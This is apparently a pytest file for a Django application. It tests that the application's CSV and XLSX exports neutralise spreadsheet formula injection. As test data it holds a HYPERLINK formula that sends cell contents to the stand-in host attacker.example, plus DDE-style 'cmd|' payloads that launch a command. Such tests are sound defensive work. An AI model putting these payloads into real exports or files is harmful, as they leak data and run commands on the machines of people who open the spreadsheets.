"""Spreadsheet formula injection: no cell of any CSV or XLSX export is read as a formula."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from rcm.exports import neutralise
from rcm.models import Country
from tests.factories import AgreementFactory
from tests.finance.factories import books
from tests.networks.factories import NetworkFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def csv_cells(response) -> list[str]:
    rows = csv.reader(io.StringIO(body(response).decode("utf-8-sig")))
    return [cell for row in rows for cell in row]


def xlsx_text_cells(content: bytes) -> list:
    """Every cell of the first sheet, as openpyxl reads it back."""
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize(
    "text",
    [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["To urge Mexico.", "-5.00", "+52", "1,234.56", ""])
def test_ordinary_text_and_numbers_are_left_as_they_are(text):
    assert neutralise(text) == text


def test_the_dashboards_csv_export_neutralises_a_formula_in_an_agreements_text(client):
    AgreementFactory(text_en=FORMULA)
    cells = csv_cells(client.get("/follow-up/export.csv"))
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


def test_the_dashboards_xlsx_export_writes_a_formula_as_text(client):
    AgreementFactory(text_en=FORMULA)
    content = body(client.get("/follow-up/export.xlsx"))
    (cell,) = [cell for cell in xlsx_text_cells(content) if cell.value == FORMULA]
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert "<f>" not in sheet_xml(content)


def test_the_apis_csv_export_neutralises_a_formula(client):
    AgreementFactory(text_en=FORMULA)
    cells = csv_cells(client.get("/api/v1/agreements/?format=csv"))
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


def test_the_networks_csv_export_neutralises_a_formula(client):
    NetworkFactory(name_en="@SUM(1+1)*cmd|' /C calc'!A0")
    cells = csv_cells(client.get("/api/v1/networks/?format=csv"))
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells


def test_the_finance_exports_neutralise_a_formula_and_keep_amounts(client, ts_staff):
    books()
    Country.objects.filter(code="BZ").update(name_en=FORMULA)
    client.force_login(ts_staff)
    response = client.get("/finance/contributions.csv?year=2014")
    rows = csv.reader(io.StringIO(body(response).decode("utf-8-sig")))
    (belize,) = [row for row in rows if row[0] == "BZ"]
    assert belize[1:5] == ["'" + FORMULA, "2014", "5000.00", "5000.00"]
    content = body(client.get("/finance/contributions.xlsx?year=2014"))
    (cell,) = [cell for cell in xlsx_text_cells(content) if cell.value == FORMULA]
    assert cell.data_type == "s"
    assert "<f>" not in sheet_xml(content)
